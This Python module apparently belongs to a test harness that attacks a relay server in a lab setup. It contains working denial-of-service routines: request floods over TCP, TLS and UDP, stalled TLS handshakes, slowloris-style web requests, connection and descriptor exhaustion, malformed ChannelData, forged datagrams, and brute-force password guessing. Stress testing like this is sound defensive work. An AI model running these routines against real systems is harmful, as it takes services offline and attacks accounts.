"""What strangers do to a server, each attack a function that goes on until its process is killed."""

import contextlib
import itertools
import socket
import ssl
import time
from collections.abc import Callable

import wire
from client import Client
from mmsg import Messages
from scene import ATTACKER, LARGE, PEERS, SERVER, WEB_PORT, Target
from wire import ALLOCATE, REQUEST, UDP

BURST_BYTES = 5_000_000
HELLOS_PER_SECOND = 600
EMPTY_ALLOCATE = wire.message(ALLOCATE, REQUEST)
CHANNEL = 0x4001
ELSEWHERE = "www.example.org"  # the name of another server, where the attack is about such names
HABITS_PER_SECOND, FORGED_PER_SECOND = 1000, 20_000
PAUSE_S = 0.005  # before a connection that was refused is tried again
VISITORS, SLOW_VISITORS = 64, 1000
SMALL_REQUEST = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
REQUESTS_AT_ONCE = 50


def connect(port: int, patience_s: float = 2) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(patience_s)
    connection.bind((ATTACKER, 0))
    connection.connect((SERVER, port))
    return connection


def again_and_again(once: Callable[[], None]) -> None:
    while True:
        try:
            once()
        except OSError:
            time.sleep(PAUSE_S)


def push(connections: list[socket.socket], data: bytes) -> None:
    """Writes as much as is taken, for all of them in turn, and reads nothing, until the first of them has ended."""
    rest = {connection: memoryview(data) for connection in connections}
    for connection in connections:
        connection.setblocking(False)
    while any(rest.values()):
        moved = 0
        for connection, left in rest.items():
            with contextlib.suppress(BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                sent = connection.send(left[:65536])
                rest[connection] = left[sent:]
                moved += sent
        if moved == 0:
            time.sleep(0.0005)


def requests_over_tcp(target: Target, connections: int) -> None:
    data = EMPTY_ALLOCATE * (BURST_BYTES // len(EMPTY_ALLOCATE))

    def once() -> None:
        with contextlib.ExitStack() as stack:
            push([stack.enter_context(connect(target.port)) for _ in range(connections)], data)

    again_and_again(once)


def tls_context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def requests_over_tls(target: Target) -> None:
    context = tls_context()
    data = EMPTY_ALLOCATE * (BURST_BYTES // len(EMPTY_ALLOCATE))

    def once() -> None:
        with context.wrap_socket(connect(target.tls_port)) as connection:
            push([connection], data)

    again_and_again(once)


def client_hello(name: str | None = None) -> bytes:
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        tls_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    return outgoing.read()


def half_handshakes(target: Target) -> None:
    """So many ClientHellos a second; each costs the server a signature, and none goes on."""
    hello, begun = client_hello(), time.monotonic()
    open_ones: list[socket.socket] = []
    for count in itertools.count():
        time.sleep(max(0.0, begun + count / HELLOS_PER_SECOND - time.monotonic()))
        with contextlib.suppress(OSError):
            open_ones.append(connect(target.tls_port, 0.2))
            open_ones[-1].sendall(hello)
        if len(open_ones) > 64:
            open_ones.pop(0).close()


def names_of_a_server_that_is_gone(target: Target) -> None:
    """Each connection has the server ask for another one in vain."""
    hello = client_hello(ELSEWHERE)

    def once() -> None:
        with connect(target.tls_port) as connection:
            connection.sendall(hello)

    again_and_again(once)


def names_byte_by_byte(target: Target) -> None:
    """Five hundred ClientHellos at a time, each in segments of one byte."""
    hello = client_hello(ELSEWHERE)

    def once() -> None:
        with contextlib.ExitStack() as stack:
            connections = [stack.enter_context(connect(target.tls_port)) for _ in range(500)]
            for connection in connections:
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for at in range(len(hello)):
                for connection in connections:
                    connection.send(hello[at : at + 1])

    again_and_again(once)


def datagrams(target: Target, payload: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind((ATTACKER, 0))
        sender.connect((SERVER, target.port))
        messages = Messages(64, len(payload)).fill(payload)
        while True:
            messages.send(sender)


def connections_that_do_not_read(target: Target) -> None:
    """A thousand that ask for as many answers as fit, and read none."""
    data = wire.binding() * 5000
    held: list[socket.socket] = []
    while True:
        while len(held) < 1000:
            try:
                held.append(connect(target.port, 0.2))
                held[-1].setblocking(False)
            except OSError:
                time.sleep(PAUSE_S)
        for connection in list(held):
            try:
                connection.send(data)
            except BlockingIOError:
                continue
            except OSError:
                held.remove(connection)
                connection.close()
        time.sleep(0.01)


def idle_connections(target: Target) -> None:
    """As many as can be had, over TCP and to the control listener."""
    held: list[socket.socket] = []
    ports = itertools.cycle([target.port, target.tls_port, target.port, target.control_port])
    while True:
        try:
            held.append(connect(next(ports), 0.2))
        except OSError:
            time.sleep(PAUSE_S)


def visitor(target: Target) -> ssl.SSLSocket:
    connection = tls_context().wrap_socket(connect(target.tls_port))
    connection.setblocking(False)
    return connection


def visits(target: Target, count: int, turn: Callable[[ssl.SSLSocket], None], pause_s: float = 0) -> None:
    """So many connections to the web site, each of which has its turn again and again, and is made anew where it ends."""
    held: list[ssl.SSLSocket] = []
    while True:
        for connection in list(held):
            try:
                turn(connection)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                held.remove(connection)
                connection.close()
        with contextlib.suppress(OSError):
            for _ in range(min(4, count - len(held))):
                held.append(visitor(target))
        time.sleep(pause_s)


def web_requests(target: Target) -> None:
    """As many requests as are answered."""

    def turn(connection: ssl.SSLSocket) -> None:
        connection.send(SMALL_REQUEST * REQUESTS_AT_ONCE)
        while connection.recv(65536):
            pass

    visits(target, VISITORS, turn)


def web_downloads(target: Target) -> None:
    """Answers without end, as fast as they come."""
    asked: set[int] = set()

    def turn(connection: ssl.SSLSocket) -> None:
        if connection.fileno() not in asked:
            connection.send(f"GET {LARGE} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
            asked.add(connection.fileno())
        if not connection.recv(65536):
            asked.discard(connection.fileno())
            raise ConnectionResetError

    visits(target, VISITORS, turn)


def slow_heads(target: Target) -> None:
    """Requests that are begun and never end, a byte a second of each."""

    def turn(connection: ssl.SSLSocket) -> None:
        connection.send(b"G")

    visits(target, SLOW_VISITORS, turn, pause_s=1)


class Address:
    """What Client wants of a server."""

    def __init__(self, target: Target):
        self.port, self.tls_port = target.port, target.tls_port


def password_guesses(target: Target) -> None:
    """Signed Allocates over TCP, each with another password."""
    for number in itertools.count():
        with contextlib.suppress(Exception), Client(Address(target), "tcp", SERVER, password="first", source=(ATTACKER, 0)) as client:
            client.challenge()
            for guess in range(1000):
                client.password = f"guess {number} {guess}"
                client.send(client.signed(ALLOCATE, [UDP]))


def odd_habits(target: Target, spoil: Callable[[bytes], list[bytes]]) -> None:
    """Of one client with credentials: what it sends by its channel is not as the kernel engine has it in mind."""
    peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    peer.bind((PEERS, 0))
    with peer, Client(Address(target), "udp", SERVER, source=(ATTACKER, 0)) as client:
        with contextlib.suppress(Exception):  # of who is attacked only for comparison
            client.relay()
            client.bind(CHANNEL, peer.getsockname())
        for number in itertools.count():
            with contextlib.suppress(OSError):
                for datagram in spoil(wire.channel_data(CHANNEL, bytes(1 + number % 99))):
                    client.send(datagram)
            time.sleep(1 / HABITS_PER_SECOND)


def padded(channel_data: bytes) -> list[bytes]:
    return [channel_data + bytes(-len(channel_data) % 4)]


def too_long(channel_data: bytes) -> list[bytes]:
    return [channel_data + bytes(9)]


def forged(target: Target) -> None:
    """Datagrams from an address that is no client's, to every port where a relay may be."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind((ATTACKER, 0))
        messages = Messages(64, 160).fill(bytes(160), [(SERVER, port) for port in range(50000, 50064)])
        while True:
            messages.send(sender)
            time.sleep(64 / FORGED_PER_SECOND)


# What the server is configured with besides, for some.
WEB = {"http": {"upstream": f"127.0.0.1:{WEB_PORT}"}}
KERNEL = {"relay": {"addresses": [SERVER], "engine": "auto", "ports": "50000-50063"}}
PASSTHROUGH = {"tls": {"passthrough": {ELSEWHERE: f"{SERVER}:9"}}}
SETTINGS = {f"{what}, kernel engine": KERNEL for what in ("padded ChannelData", "odd ChannelData", "forged media")}
SETTINGS |= dict.fromkeys(("names of a server that is gone", "names, byte by byte"), PASSTHROUGH)
SETTINGS |= {f"web {what} over TLS": WEB for what in ("requests", "downloads", "heads without end")}

ATTACKS: dict[str, Callable[[Target], None]] = {
    "requests over one TCP connection": lambda target: requests_over_tcp(target, 1),
    "requests over 64 TCP connections": lambda target: requests_over_tcp(target, 64),
    "requests over TLS": requests_over_tls,
    "handshakes that never finish": half_handshakes,
    "names of a server that is gone": names_of_a_server_that_is_gone,
    "names, byte by byte": names_byte_by_byte,
    "requests over UDP": lambda target: datagrams(target, EMPTY_ALLOCATE),
    "rubbish over UDP": lambda target: datagrams(target, b"\xff" * 200),
    "ChannelData over UDP": lambda target: datagrams(target, wire.channel_data(0x4000, bytes(196))),
    "connections that do not read": connections_that_do_not_read,
    "idle connections, all descriptors": idle_connections,
    "password guesses over TCP": password_guesses,
    "padded ChannelData, kernel engine": lambda target: odd_habits(target, padded),
    "odd ChannelData, kernel engine": lambda target: odd_habits(target, too_long),
    "forged media, kernel engine": forged,
    "web requests over TLS": web_requests,
    "web downloads over TLS": web_downloads,
    "web heads without end over TLS": slow_heads,
}
